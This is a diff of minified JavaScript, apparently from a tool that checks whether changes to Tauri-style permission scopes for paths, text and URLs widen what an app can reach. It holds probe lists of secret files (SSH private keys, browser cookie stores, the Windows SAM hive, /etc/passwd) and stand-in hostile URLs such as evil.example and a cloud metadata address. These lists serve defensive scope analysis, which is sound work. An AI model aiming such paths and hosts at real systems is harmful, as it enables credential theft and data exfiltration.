-part);return[root,...kept].join("/")}function besideExecutable(platform,product){switch(platform){case"linux":return"/usr/bin";case"macOS":return`/Applications/${product}\
-.app/Contents/MacOS`;case"windows":return`C:/Program Files/${product}`;default:return}}function standardDirectory(variable6,platform,app){const known13=tables.get(
-app)??new Map;tables.set(app,known13);const table2=known13.get(platform)??tableOf2(platform,folderOf4(app),app.product);return known13.set(platform,table2),table2[variable6]}
-function folderOf4({identifier}){return/^\.*$|[/\\]/.test(identifier)?"app":identifier}var tables=new WeakMap;function tableOf2(platform,id,product){switch(platform){case"\
-linux":return linux(id,product);case"macOS":return macOS(id,product);case"windows":return windows(id,product);case"android":return android(id);case"iOS":return iOS(
-id)}}var linux=(id,product)=>table("/home/user",{$AUDIO:"~/Music",$CACHE:"~/.cache",$CONFIG:"~/.config",$DATA:"~/.local/share",$LOCALDATA:"~/.local/share",$DESKTOP:"\
-~/Desktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$EXE:"~/.local/bin",$FONT:"~/.local/share/fonts",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"~/Public",$RUNTIME:"\
-/run/user/1000",$TEMPLATE:"~/Templates",$VIDEO:"~/Videos",$RESOURCE:`/usr/lib/${product}`,$TEMP:"/tmp",$APPCONFIG:`~/.config/${id}`,$APPDATA:`~/.local/share/${id}`,
-$APPLOCALDATA:`~/.local/share/${id}`,$APPCACHE:`~/.cache/${id}`,$APPLOG:`~/.local/share/${id}/logs`}),macOS=(id,product)=>table("/Users/user",{$AUDIO:"~/Music",
-$CACHE:"~/Library/Caches",$CONFIG:"~/Library/Application Support",$DATA:"~/Library/Application Support",$LOCALDATA:"~/Library/Application Support",$DESKTOP:"~/D\
-esktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$FONT:"~/Library/Fonts",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"~/Public",$VIDEO:"~/Movies",$RESOURCE:`\
-/Applications/${product}.app/Contents/Resources`,$TEMP:"/private/var/folders/zz/zyx/T",$APPCONFIG:`~/Library/Application Support/${id}`,$APPDATA:`~/Library/Appl\
-ication Support/${id}`,$APPLOCALDATA:`~/Library/Application Support/${id}`,$APPCACHE:`~/Library/Caches/${id}`,$APPLOG:`~/Library/Logs/${id}`}),windows=(id,product)=>table(
-"C:/Users/user",{$AUDIO:"~/Music",$CACHE:"~/AppData/Local",$CONFIG:"~/AppData/Roaming",$DATA:"~/AppData/Roaming",$LOCALDATA:"~/AppData/Local",$DESKTOP:"~/Deskto\
-p",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"C:/Users/Public",$TEMPLATE:"~/AppData/Roaming/Microsoft/Windows/Temp\
-lates",$VIDEO:"~/Videos",$RESOURCE:`C:/Program Files/${product}`,$TEMP:"~/AppData/Local/Temp",$APPCONFIG:`~/AppData/Roaming/${id}`,$APPDATA:`~/AppData/Roaming/${id}`,
-$APPLOCALDATA:`~/AppData/Local/${id}`,$APPCACHE:`~/AppData/Local/${id}`,$APPLOG:`~/AppData/Local/${id}/logs`}),android=id=>table(`/storage/emulated/0/Android/da\
-ta/${id}/files`,{$AUDIO:"~/Music",$CACHE:`/data/user/0/${id}/cache`,$CONFIG:`/data/user/0/${id}`,$DATA:`/data/user/0/${id}`,$LOCALDATA:`/data/user/0/${id}`,$DOCUMENT:"\
-~/Documents",$DOWNLOAD:"~/Download",$HOME:"/storage/emulated/0",$PICTURE:"~/Pictures",$PUBLIC:"~/DCIM",$VIDEO:"~/Movies",$RESOURCE:"asset:/localhost",$TEMP:`/da\
-ta/user/0/${id}/cache`,$APPCONFIG:`/data/user/0/${id}`,$APPDATA:`/data/user/0/${id}`,$APPLOCALDATA:`/data/user/0/${id}`,$APPCACHE:`/data/user/0/${id}/cache`,$APPLOG:`\
-/data/user/0/${id}/logs`}),iOS=id=>table("/var/mobile/Containers/Data/Application/0",{$AUDIO:"~/Music",$CACHE:"~/Library/Caches",$CONFIG:"~/Library/Application \
-Support",$DATA:"~/Library/Application Support",$LOCALDATA:"~/Library/Application Support",$DESKTOP:"~/Desktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$FONT:"\
-~/Library/Fonts",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"~/Public",$VIDEO:"~/Movies",$RESOURCE:"/private/var/containers/Bundle/Application/0/app.app/assets",$TEMP:"\
-~/tmp",$APPCONFIG:`~/Library/Application Support/${id}`,$APPDATA:`~/Library/Application Support/${id}`,$APPLOCALDATA:`~/Library/Application Support/${id}`,$APPCACHE:`\
-~/Library/Caches/${id}`,$APPLOG:`~/Library/Logs/${id}`});function table(home,directories){const entries=Object.entries(directories).map(([name,path])=>[name,path.
-replace(/^~/,home)]);return Object.assign(Object.create(null),Object.fromEntries(entries))}function sensitivePaths(platform){switch(platform){case"linux":return[
-"/home/user/.ssh/id_ed25519","/home/user/.config/google-chrome/Default/Cookies","/home/user/.bashrc","/etc/passwd"];case"macOS":return["/Users/user/.ssh/id_ed25\
-519","/Users/user/Library/Application Support/Google/Chrome/Default/Cookies","/Users/user/.zshrc","/etc/passwd"];case"windows":return["C:/Users/user/.ssh/id_ed2\
-5519","C:/Users/user/AppData/Local/Google/Chrome/User Data/Default/Network/Cookies","C:/Windows/System32/config/SAM"];case"android":return["/storage/emulated/0/\
-DCIM/Camera/photo.jpg","/storage/emulated/0/Download/statement.pdf"];case"iOS":return["/etc/passwd"]}}function pathSide(side,platform,directories){const read11=entries=>entries.
-map(entry=>({entry,pattern:patternOf2(entry,platform,directories)})),[allow2,deny]=[read11(side.allow),read11(side.deny)],literalDot2=("literalDot"in side.matching?
-side.matching.literalDot:null)??platform!=="windows";return!isWhole(allow2)||!isWhole(deny)?{allow:[],deny:[],platform,literalDot:literalDot2}:{allow:allow2,deny,
-platform,literalDot:literalDot2}}function isWhole(entries){return entries.every(({pattern})=>pattern!==void 0)}function patternOf2(entry,platform,directories){const path=pathOf5(
-entry);if(path===void 0)return;const pattern=resolvePath(path,platform,directories);return pattern===void 0||OF_TAURI_1.test(pattern)?null:isGlob(pattern)?pattern:
-void 0}function pathOf5(entry){return entry.kind==="opened"?entry.path??void 0:entry.kind==="path"?entry.path:void 0}function resolvePath(pattern,platform,directories){
+besideExecutable(platform,app.product),below9=(first.startsWith("$")?rest2:parts2).filter(isNamed4);return from===void 0?void 0:resolved3([...from.split("/"),...below9])}
+function isNamed4(part){return part!==""&&part!=="."}function resolved3([root="",...parts2]){const kept=[];for(const part of parts2)part===".."?kept.pop():kept.
+push(part);return[root,...kept].join("/")}function besideExecutable(platform,product){switch(platform){case"linux":return"/usr/bin";case"macOS":return`/Applicat\
+ions/${product}.app/Contents/MacOS`;case"windows":return`C:/Program Files/${product}`;default:return}}function standardDirectory(variable6,platform,app){const known13=tables.
+get(app)??new Map;tables.set(app,known13);const table2=known13.get(platform)??tableOf2(platform,folderOf4(app),app.product);return known13.set(platform,table2),
+table2[variable6]}function folderOf4({identifier}){return/^\.*$|[/\\]/.test(identifier)?"app":identifier}var tables=new WeakMap;function tableOf2(platform,id,product){
+switch(platform){case"linux":return linux(id,product);case"macOS":return macOS(id,product);case"windows":return windows(id,product);case"android":return android(
+id);case"iOS":return iOS(id)}}var linux=(id,product)=>table("/home/user",{$AUDIO:"~/Music",$CACHE:"~/.cache",$CONFIG:"~/.config",$DATA:"~/.local/share",$LOCALDATA:"\
+~/.local/share",$DESKTOP:"~/Desktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$EXE:"~/.local/bin",$FONT:"~/.local/share/fonts",$HOME:"~",$PICTURE:"~/Pict\
+ures",$PUBLIC:"~/Public",$RUNTIME:"/run/user/1000",$TEMPLATE:"~/Templates",$VIDEO:"~/Videos",$RESOURCE:`/usr/lib/${product}`,$TEMP:"/tmp",$APPCONFIG:`~/.config/${id}`,
+$APPDATA:`~/.local/share/${id}`,$APPLOCALDATA:`~/.local/share/${id}`,$APPCACHE:`~/.cache/${id}`,$APPLOG:`~/.local/share/${id}/logs`}),macOS=(id,product)=>table(
+"/Users/user",{$AUDIO:"~/Music",$CACHE:"~/Library/Caches",$CONFIG:"~/Library/Application Support",$DATA:"~/Library/Application Support",$LOCALDATA:"~/Library/Ap\
+plication Support",$DESKTOP:"~/Desktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$FONT:"~/Library/Fonts",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"~/Publi\
+c",$VIDEO:"~/Movies",$RESOURCE:`/Applications/${product}.app/Contents/Resources`,$TEMP:"/private/var/folders/zz/zyx/T",$APPCONFIG:`~/Library/Application Support\
+/${id}`,$APPDATA:`~/Library/Application Support/${id}`,$APPLOCALDATA:`~/Library/Application Support/${id}`,$APPCACHE:`~/Library/Caches/${id}`,$APPLOG:`~/Library\
+/Logs/${id}`}),windows=(id,product)=>table("C:/Users/user",{$AUDIO:"~/Music",$CACHE:"~/AppData/Local",$CONFIG:"~/AppData/Roaming",$DATA:"~/AppData/Roaming",$LOCALDATA:"\
+~/AppData/Local",$DESKTOP:"~/Desktop",$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Downloads",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"C:/Users/Public",$TEMPLATE:"~/App\
+Data/Roaming/Microsoft/Windows/Templates",$VIDEO:"~/Videos",$RESOURCE:`C:/Program Files/${product}`,$TEMP:"~/AppData/Local/Temp",$APPCONFIG:`~/AppData/Roaming/${id}`,
+$APPDATA:`~/AppData/Roaming/${id}`,$APPLOCALDATA:`~/AppData/Local/${id}`,$APPCACHE:`~/AppData/Local/${id}`,$APPLOG:`~/AppData/Local/${id}/logs`}),android=id=>table(
+`/storage/emulated/0/Android/data/${id}/files`,{$AUDIO:"~/Music",$CACHE:`/data/user/0/${id}/cache`,$CONFIG:`/data/user/0/${id}`,$DATA:`/data/user/0/${id}`,$LOCALDATA:`\
+/data/user/0/${id}`,$DOCUMENT:"~/Documents",$DOWNLOAD:"~/Download",$HOME:"/storage/emulated/0",$PICTURE:"~/Pictures",$PUBLIC:"~/DCIM",$VIDEO:"~/Movies",$RESOURCE:"\
+asset:/localhost",$TEMP:`/data/user/0/${id}/cache`,$APPCONFIG:`/data/user/0/${id}`,$APPDATA:`/data/user/0/${id}`,$APPLOCALDATA:`/data/user/0/${id}`,$APPCACHE:`/\
+data/user/0/${id}/cache`,$APPLOG:`/data/user/0/${id}/logs`}),iOS=id=>table("/var/mobile/Containers/Data/Application/0",{$AUDIO:"~/Music",$CACHE:"~/Library/Cache\
+s",$CONFIG:"~/Library/Application Support",$DATA:"~/Library/Application Support",$LOCALDATA:"~/Library/Application Support",$DESKTOP:"~/Desktop",$DOCUMENT:"~/Do\
+cuments",$DOWNLOAD:"~/Downloads",$FONT:"~/Library/Fonts",$HOME:"~",$PICTURE:"~/Pictures",$PUBLIC:"~/Public",$VIDEO:"~/Movies",$RESOURCE:"/private/var/containers\
+/Bundle/Application/0/app.app/assets",$TEMP:"~/tmp",$APPCONFIG:`~/Library/Application Support/${id}`,$APPDATA:`~/Library/Application Support/${id}`,$APPLOCALDATA:`\
+~/Library/Application Support/${id}`,$APPCACHE:`~/Library/Caches/${id}`,$APPLOG:`~/Library/Logs/${id}`});function table(home,directories){const entries=Object.entries(
+directories).map(([name,path])=>[name,path.replace(/^~/,home)]);return Object.assign(Object.create(null),Object.fromEntries(entries))}function sensitivePaths(platform){
+switch(platform){case"linux":return["/home/user/.ssh/id_ed25519","/home/user/.config/google-chrome/Default/Cookies","/home/user/.bashrc","/etc/passwd"];case"mac\
+OS":return["/Users/user/.ssh/id_ed25519","/Users/user/Library/Application Support/Google/Chrome/Default/Cookies","/Users/user/.zshrc","/etc/passwd"];case"window\
+s":return["C:/Users/user/.ssh/id_ed25519","C:/Users/user/AppData/Local/Google/Chrome/User Data/Default/Network/Cookies","C:/Windows/System32/config/SAM"];case"a\
+ndroid":return["/storage/emulated/0/DCIM/Camera/photo.jpg","/storage/emulated/0/Download/statement.pdf"];case"iOS":return["/etc/passwd"]}}function pathSide(side,platform,directories){
+const read11=entries=>entries.map(entry=>({entry,pattern:patternOf2(entry,platform,directories)})),[allow2,deny]=[read11(side.allow),read11(side.deny)],literalDot2=("\
+literalDot"in side.matching?side.matching.literalDot:null)??platform!=="windows";return!isWhole(allow2)||!isWhole(deny)?{allow:[],deny:[],platform,literalDot:literalDot2}:
+{allow:allow2,deny,platform,literalDot:literalDot2}}function isWhole(entries){return entries.every(({pattern})=>pattern!==void 0)}function patternOf2(entry,platform,directories){
+const path=pathOf5(entry);if(path===void 0)return;const pattern=resolvePath(path,platform,directories);return pattern===void 0||OF_TAURI_1.test(pattern)?null:isGlob(
+pattern)?pattern:void 0}function pathOf5(entry){return entry.kind==="opened"?entry.path??void 0:entry.kind==="path"?entry.path:void 0}function resolvePath(pattern,platform,directories){
 const known13=resolvedBefore(platform,directories);if(known13.has(pattern))return known13.get(pattern);const resolved4=rebuilt(pattern,platform,directories);return known13.
 set(pattern,resolved4),resolved4}var resolvedPaths=new WeakMap;function resolvedBefore(platform,directories){const ofApp=resolvedPaths.get(directories)??new Map;
 resolvedPaths.set(directories,ofApp);const known13=ofApp.get(platform)??new Map;return ofApp.set(platform,known13),known13}function rebuilt(pattern,platform,directories){
-const text3=platform==="windows"?pattern.replaceAll("\\","/"):pattern,parts=text3.split("/").filter(part=>part!==""&&part!=="."&&part!=="..");if(text3.startsWith(
-"/"))return`/${parts.join("/")}`;const dots=/^\.{1,2}(?=\/|$)/.exec(text3)?.[0];if(dots!==void 0)return[dots,...parts].join("/");const[first="",...rest2]=parts;
-if(!VARIABLE5.test(first))return parts.join("/");const directory=directoryOf2(first,platform,directories);return directory===void 0?KNOWN_VARIABLES.has(first)?void 0:
-parts.join("/"):[directory,...rest2].join("/")||"/"}var VARIABLE5=/^\$[A-Z]+$/,OF_TAURI_1=/^\$(?:APP|LOG)(?:\/|$)/,KNOWN_VARIABLES=new Set("$AUDIO $CACHE $CONFI\
-G $DATA $LOCALDATA $DESKTOP $DOCUMENT $DOWNLOAD $EXE $FONT $HOME $PICTURE $PUBLIC $RUNTIME $TEMPLATE $VIDEO $RESOURCE $TEMP $APPCONFIG $APPDATA $APPLOCALDATA $A\
-PPCACHE $APPLOG".split(" ")),ANY4=not(oneOf("/\0")),rest=many(character(ANY4)),PART2=choice(sequence(character(except(ANY4,oneOf("."))),rest),sequence(literal("\
-."),character(except(ANY4,oneOf("."))),rest),sequence(literal(".."),character(ANY4),rest)),BELOW=atLeastOne(sequence(literal("/"),PART2)),ABSOLUTE=choice(literal(
+const text3=platform==="windows"?pattern.replaceAll("\\","/"):pattern,parts2=text3.split("/").filter(part=>part!==""&&part!=="."&&part!=="..");if(text3.startsWith(
+"/"))return`/${parts2.join("/")}`;const dots=/^\.{1,2}(?=\/|$)/.exec(text3)?.[0];if(dots!==void 0)return[dots,...parts2].join("/");const[first="",...rest2]=parts2;
+if(!VARIABLE5.test(first))return parts2.join("/");const directory=directoryOf2(first,platform,directories);return directory===void 0?KNOWN_VARIABLES.has(first)?
+void 0:parts2.join("/"):[directory,...rest2].join("/")||"/"}var VARIABLE5=/^\$[A-Z]+$/,OF_TAURI_1=/^\$(?:APP|LOG)(?:\/|$)/,KNOWN_VARIABLES=new Set("$AUDIO $CACH\
+E $CONFIG $DATA $LOCALDATA $DESKTOP $DOCUMENT $DOWNLOAD $EXE $FONT $HOME $PICTURE $PUBLIC $RUNTIME $TEMPLATE $VIDEO $RESOURCE $TEMP $APPCONFIG $APPDATA $APPLOCA\
+LDATA $APPCACHE $APPLOG".split(" ")),ANY4=not(oneOf("/\0")),rest=many(character(ANY4)),PART2=choice(sequence(character(except(ANY4,oneOf("."))),rest),sequence(literal(
+"."),character(except(ANY4,oneOf("."))),rest),sequence(literal(".."),character(ANY4),rest)),BELOW=atLeastOne(sequence(literal("/"),PART2)),ABSOLUTE=choice(literal(
 "/"),BELOW),RELATIVE=sequence(PART2,many(sequence(literal("/"),PART2))),DRIVE=sequence(character(either(between("A","Z"),between("a","z"))),literal(":")),POSIX_PATHS=ownLanguage(
 choice(ABSOLUTE,RELATIVE)),WINDOWS_PATHS=ownLanguage(choice(sequence(DRIVE,ABSOLUTE),RELATIVE)),DRIVE2="C:/";function foldersToStartIn2(patterns3,platform,app){
 if(!patterns3.some(pattern=>beginsInFolder(pattern,platform)))return[void 0];const home=directoryOf2("$HOME",platform,{...app,moved:{}})??"/";return platform===
@@ -10834,12 +10926,12 @@ if(!patterns3.some(pattern=>beginsInFolder(pattern,platform)))return[void 0];con
 loads`,"/"]:["/"]}function patternsFrom(folder,pattern,platform){if(folder===void 0||!beginsInFolder(pattern,platform))return[pattern];const[first="",...rest2]=pattern.
 split("/");return first===""?[pattern,below6(folder.slice(0,DRIVE2.length),rest2)]:first==="."?[pattern,below6(folder,rest2)]:first===".."?[pattern,below6(parentOf2(
 folder),rest2)]:[pattern,below6(folder,[first,...rest2])]}function beginsInFolder(pattern,platform){return isRelative2(pattern)||platform==="windows"&&pattern.startsWith(
-"/")}function isRelative2(pattern){return!/^(?:\/|[A-Za-z]:|$)/.test(pattern)&&!/^[^/]*[*?[\]]/.test(pattern)}function below6(folder,parts){return parts.length===
-0?folder:[folder.replace(/\/$/,""),...parts].join("/")}function parentOf2(folder){return folder.replace(/\/[^/]*$/,"")||"/"}function inUniverse(pattern,universe,work){
+"/")}function isRelative2(pattern){return!/^(?:\/|[A-Za-z]:|$)/.test(pattern)&&!/^[^/]*[*?[\]]/.test(pattern)}function below6(folder,parts2){return parts2.length===
+0?folder:[folder.replace(/\/$/,""),...parts2].join("/")}function parentOf2(folder){return folder.replace(/\/[^/]*$/,"")||"/"}function inUniverse(pattern,universe,work){
 const texts2=automatonOf(pattern,work),inside=common2(texts2,universe,work);return isEmpty(inside)&&!isEmpty(texts2)?void 0:inside}var pathQuestion=(base,head,_command,platform,work)=>{
-const directories=directoriesOf(head),before2=pathSide(base,platform,{...directories,moved:directoriesOf(base).moved}),after2=pathSide(head,platform,directories),
-all=[...before2.allow,...before2.deny,...after2.allow,...after2.deny],folders=foldersToStartIn2(all.flatMap(({pattern})=>pattern??[]),platform,directories);return inAnyFolder(
-folders.map(folder=>comparedFrom(folder,before2,after2,work)))};function directoriesOf({matching:matching3}){return"directories"in matching3?matching3.directories:
+const directories=directoriesOf(head),before3=pathSide(base,platform,{...directories,moved:directoriesOf(base).moved}),after2=pathSide(head,platform,directories),
+all=[...before3.allow,...before3.deny,...after2.allow,...after2.deny],folders=foldersToStartIn2(all.flatMap(({pattern})=>pattern??[]),platform,directories);return inAnyFolder(
+folders.map(folder=>comparedFrom(folder,before3,after2,work)))};function directoriesOf({matching:matching3}){return"directories"in matching3?matching3.directories:
 {identifier:"",product:"",moved:{}}}function inAnyFolder(answers){const best=new Map;for(const found12 of answers.flatMap(({escapes})=>escapes)){const known13=best.
 get(found12.entry);(known13===void 0||found12.sensitive&&!known13.sensitive)&&best.set(found12.entry,found12)}return{escapes:[...best.values()],undecided:[...new Set(
 answers.flatMap(({undecided})=>undecided))]}}function comparedFrom(folder,base,head,work){const isFromFolder=({pattern})=>pattern!==null&&beginsInFolder(pattern,
@@ -10900,23 +10992,23 @@ work)],work),own=classesWithin(alphabet,language.alphabet,work),[colon=0]=classe
 anything2;state+=1){const after2=number=>language.next[state*language.alphabet.size+(own[number]??0)]??NOWHERE,hasScheme=after2(colon)!==NOWHERE;for(let number=0;number<
 alphabet.size;number+=1)rows.push(number===colon?hasScheme?anything2:NOWHERE:after2(number));accepting.push(hasScheme||language.accepting[state]===1?1:0)}for(let number=0;number<
 alphabet.size;number+=1)rows.push(anything2);work.spend(rows.length);const next2=Int32Array.from(rows);return minimised({alphabet,next:next2,accepting:Uint8Array.
-from([...accepting,1])},work)}var textQuestion=(base,head,_command,_platform,work)=>{const[before2,after2]=[textScope(base,work),textScope(head,work)],telling3=[
-...around(before2,work),...withNewScheme(before2,after2,work)],candidates2=[...SENSITIVE,...telling3,...OTHERS4];return compareScopes(before2,after2,{universe:TEXTS4,
+from([...accepting,1])},work)}var textQuestion=(base,head,_command,_platform,work)=>{const[before3,after2]=[textScope(base,work),textScope(head,work)],telling2=[
+...around(before3,work),...withNewScheme(before3,after2,work)],candidates2=[...SENSITIVE,...telling2,...OTHERS4];return compareScopes(before3,after2,{universe:TEXTS4,
 candidates:candidates2,show:word2=>({payload:{path:word2},example:word2})},work)};function around({allow:allow2},work){return allow2.flatMap(({language})=>language&&
-firstWord(language,work)||[]).map(word2=>({word:`file:///etc/passwd#${word2}`,sensitive:!0}))}function withNewScheme(base,head,work){const[before2,after2]=[base.
-allow[0]?.language,head.allow[0]?.language];if(before2===void 0||after2===void 0||isEmpty(before2))return[];const word2=readable(()=>firstWord(without(after2,withItsSchemes(
-before2,work),work),work));return word2===void 0?[]:[{word:word2,sensitive:!1}]}function textScope({matching:matching3},work){const accepts3=matching3.kind==="t\
+firstWord(language,work)||[]).map(word2=>({word:`file:///etc/passwd#${word2}`,sensitive:!0}))}function withNewScheme(base,head,work){const[before3,after2]=[base.
+allow[0]?.language,head.allow[0]?.language];if(before3===void 0||after2===void 0||isEmpty(before3))return[];const word2=readable(()=>firstWord(without(after2,withItsSchemes(
+before3,work),work),work));return word2===void 0?[]:[{word:word2,sensitive:!1}]}function textScope({matching:matching3},work){const accepts3=matching3.kind==="t\
 ext"?matching3.accepts:null,entry={kind:"data",value:accepts3,text:canonical(accepts3),at:(0,import_shared_acegos.topOf)("")},language=accepts3===null?TEXTS4:readable(
 ()=>textsFor(accepts3,work));return{allow:[{entry,language}],deny:[]}}var TEXTS4=ownLanguage(atLeastOne(character(not(oneOf("\0"))))),NOTHING_IS_OPENED="[]",textsFor=remembered(
 (source,work)=>{if(source===NOTHING_IS_OPENED)return NOTHING5;const expression=validatorExpression(source,work);return expression&&inUniverse(expression,TEXTS4,
 work)}),SENSITIVE=["file:///etc/passwd","smb://evil.example/share"].map(word2=>({word:word2,sensitive:!0})),OTHERS4=["https://evil.example/","mailto:someone@evi\
 l.example"].map(word2=>({word:word2,sensitive:!1})),TELLING6={protocol:[],username:[""],password:[""],hostname:["evil.example","169.254.169.254","localhost","ev\
 il"],port:["","8080"],pathname:["/","/page"],search:["","q=1"],hash:["","top"]},MOST_STATES5=5e4,CutPart=class{#part;#work;#isBackwards;#sources;#sourceOf;#languages;#together;#masks=new Map;#pieces=new Map;constructor(part,{
-parts,hostsBackwards},patterns3,bits,work){this.#part=part,this.#work=work,this.#isBackwards=part==="hostname";const universe=this.#isBackwards?hostsBackwards:parts[part],
-sources=[],numbers=new Map,sourceOf7=new Map;for(const[name,{[part]:pattern}]of patterns3){const key3=partKey(pattern),number=numbers.get(key3)??sources.length;
-if(number===sources.length){const all=this.#isBackwards?partBackwards(pattern,work):partLanguage(pattern,work);sources.push({text:pattern.text,language:common2(
-all,universe,work),mask:0n})}numbers.set(key3,number),sourceOf7.set(name,number);const source=sources[number];source.mask|=bits.get(name)??0n}this.#sources=sources,
-this.#sourceOf=sourceOf7,this.#languages=new Languages(sources.map(({language})=>language),work),this.#together=new Together(this.#languages,[...sources.keys()],
+parts:parts2,hostsBackwards},patterns3,bits,work){this.#part=part,this.#work=work,this.#isBackwards=part==="hostname";const universe=this.#isBackwards?hostsBackwards:
+parts2[part],sources=[],numbers=new Map,sourceOf8=new Map;for(const[name,{[part]:pattern}]of patterns3){const key3=partKey(pattern),number=numbers.get(key3)??sources.
+length;if(number===sources.length){const all=this.#isBackwards?partBackwards(pattern,work):partLanguage(pattern,work);sources.push({text:pattern.text,language:common2(
+all,universe,work),mask:0n})}numbers.set(key3,number),sourceOf8.set(name,number);const source=sources[number];source.mask|=bits.get(name)??0n}this.#sources=sources,
+this.#sourceOf=sourceOf8,this.#languages=new Languages(sources.map(({language})=>language),work),this.#together=new Together(this.#languages,[...sources.keys()],
 work)}all(){const found12=new Map;for(const number of this.#sources.keys())for(const piece of this.#piecesOf(number)){const known13=found12.get(piece.mask);(known13===
 void 0||piece.rank<known13.rank)&&found12.set(piece.mask,piece)}return[...found12.values()].sort((a3,b5)=>a3.rank-b5.rank)}*within(pattern){const number=this.#sourceOf.
 get(pattern);number!==void 0&&(yield*this.#piecesOf(number))}*#piecesOf(number){const pieces=this.#pieces.get(number)??{found:[],more:this.#newPieces(number)};this.#pieces.
@@ -10949,8 +11041,8 @@ function isSought(mask,{outside,uncovered,lifted:lifted2}){return(mask&outside)=
 const[scheme="",user="",password="",host="",port="",path="",search2="",hash=""]=words4,rest2=`${search2&&`?${search2}`}${hash&&`#${hash}`}`;if(!hasHost)return`${scheme}\
 :${path.startsWith("//")?`/.${path}`:path}${rest2}`;const login2=`${user}${password&&`:${password}`}`;return`${scheme}://${login2&&`${login2}@`}${host}${port&&`\
 :${port}`}${path}${rest2}`}var urlQuestion=(base,head,_command,_platform,work)=>{const refused=refusals2(head,work),after2=refused.length>0?{allow:[],deny:[]}:head,
-before2=refusals2(base,work).length>0?{allow:[],deny:[]}:base,isUnread=entry=>comparableUrlPattern(urlPatternOf(entry),work)==="unread";return{...withUnread(escapesFrom(
-before2,after2,work),before2,after2,isUnread),refused}};function escapesFrom(base,head,work){const patterns3=new Map([...head.allow,...head.deny,...base.allow,...base.
+before3=refusals2(base,work).length>0?{allow:[],deny:[]}:base,isUnread=entry=>comparableUrlPattern(urlPatternOf(entry),work)==="unread";return{...withUnread(escapesFrom(
+before3,after2,work),before3,after2,isUnread),refused}};function escapesFrom(base,head,work){const patterns3=new Map([...head.allow,...head.deny,...base.allow,...base.
 deny].flatMap(entry=>named11(entry,work))),texts2=entries=>entries.map(urlPatternOf),search2=new UrlCells(patterns3,httpKinds(),work).search({outside:texts2(head.
 deny),uncovered:texts2(base.allow),lifted:texts2(base.deny)}),known13=new Set(base.allow.map(({text:text3})=>text3)),found12=new Map,lifted2=new Set(base.deny.map(
 ({text:text3})=>text3)).difference(new Set(head.deny.map(({text:text3})=>text3)));for(const entry of head.allow){if(known13.has(entry.text)&&lifted2.size===0)continue;
@@ -10990,8 +11082,8 @@ effect==="allow"&&isFor(grant2,call2,work)),[first]=allowing;if(first===void 0)r
 global=(byCommand.get("")??[]).filter(grant2=>grant2.plugin===plugin&&isHere2(grant2)),scopes=[...allowing,...global].sort(byOrder).flatMap(({scope})=>scope??[]),
 allow2=scopes.flatMap(scope=>scope.allow),deny=scopes.flatMap(scope=>scope.deny);return inScope(first.matching,allow2,deny,call2,platform,work)}function everyCommandBeside(command2){
 return(0,import_shared_aces.isAppCommand)(command2)?import_shared_aces.ANY_APP_COMMAND:command2.replace(/\|[^|]*$/,"|*")}function byOrder(a3,b5){return a3.effect!==
-b5.effect?a3.effect==="allow"?-1:1:a3.order-b5.order}var indexes4=new WeakMap;function commandsOf5(grants){const known13=indexes4.get(grants);if(known13!==void 0)
-return known13;const index=Map.groupBy(grants,({command:command2,effect})=>effect==="scope"?"":command2);return indexes4.set(grants,index),index}function isFor({
+b5.effect?a3.effect==="allow"?-1:1:a3.order-b5.order}var indexes5=new WeakMap;function commandsOf5(grants){const known13=indexes5.get(grants);if(known13!==void 0)
+return known13;const index=Map.groupBy(grants,({command:command2,effect})=>effect==="scope"?"":command2);return indexes5.set(grants,index),index}function isFor({
 windows:windows2,webviews,context:context2},call2,work){const label=text3=>pattern=>isGlobOf(text3,pattern.text,ANY_TEXT2,work)===!0;return comesFrom(context2,call2.
 origin,work)&&(webviews.some(label(call2.webview))||windows2.some(label(call2.window)))}function comesFrom(context2,origin,work){return context2.kind==="any"?!0:
 context2.kind==="local"?origin==="local":origin!=="local"&&isUrlOf(origin,context2.url.text,work)}function indexBase(base){const commands2=new Map,permissions2=new Set,
@@ -11037,18 +11129,18 @@ capability)===import_shared_aceps.NO_PLATFORM?{reason:{rule:"ipc/command-granted
 entry,detail:""}}const at2=entry.definedAt??entry.at;return{reason:{rule,note:"permission-only"},at:at2,entry,detail:entry.permission}}function forNewPage(principal,entry,had){
 const{context:context2}=entry;if(context2.kind==="remote"&&!had.some(grant2=>sameUrl(grant2,context2.url)))return{reason:{rule:"ipc/remote-origin-granted",note:context2.
 takenForLocal===!0?"taken-for-local":null},at:context2.url.at,entry,detail:context2.url.text};if(context2.kind==="local"&&had.every(grant2=>grant2.context.kind===
-"remote"))return{reason:{rule:"ipc/window-added",note:"own-pages"},at:entry.at,entry,detail:"local"};const before2=new Set(had.flatMap(({windows:windows2,webviews})=>[
-...windows2,...webviews].map(({text:text3})=>text3))),matching3=patternsFor(principal,entry),pattern=matching3.find(({text:text3})=>!before2.has(text3))??matching3[0],
+"remote"))return{reason:{rule:"ipc/window-added",note:"own-pages"},at:entry.at,entry,detail:"local"};const before3=new Set(had.flatMap(({windows:windows2,webviews})=>[
+...windows2,...webviews].map(({text:text3})=>text3))),matching3=patternsFor(principal,entry),pattern=matching3.find(({text:text3})=>!before3.has(text3))??matching3[0],
 at2=pattern?.at??entry.at;return{reason:{rule:"ipc/window-added",note:null},at:at2,entry,detail:pattern?.text??""}}function sameUrl({context:context2},url){return context2.
 kind==="remote"&&context2.url.text===url.text}function patternsFor(principal,{windows:windows2,webviews}){return[...matching2(windows2,principal.window),...matching2(
 webviews,principal.webview)]}var matchingKnown=new WeakMap;function matching2(patterns3,label){const known13=matchingKnown.get(patterns3)??new Map;matchingKnown.
 set(patterns3,known13);const found12=known13.get(label)??patterns3.filter(({text:text3})=>matchesGlob(text3,label,{literalSeparator:!1,literalDot:!1,foldCase:!1}));
-return known13.set(label,found12),found12}function scopeCause(principal,entries,table2,found12,before2,platforms,base,head){const[first]=entries,owners=[...entries,
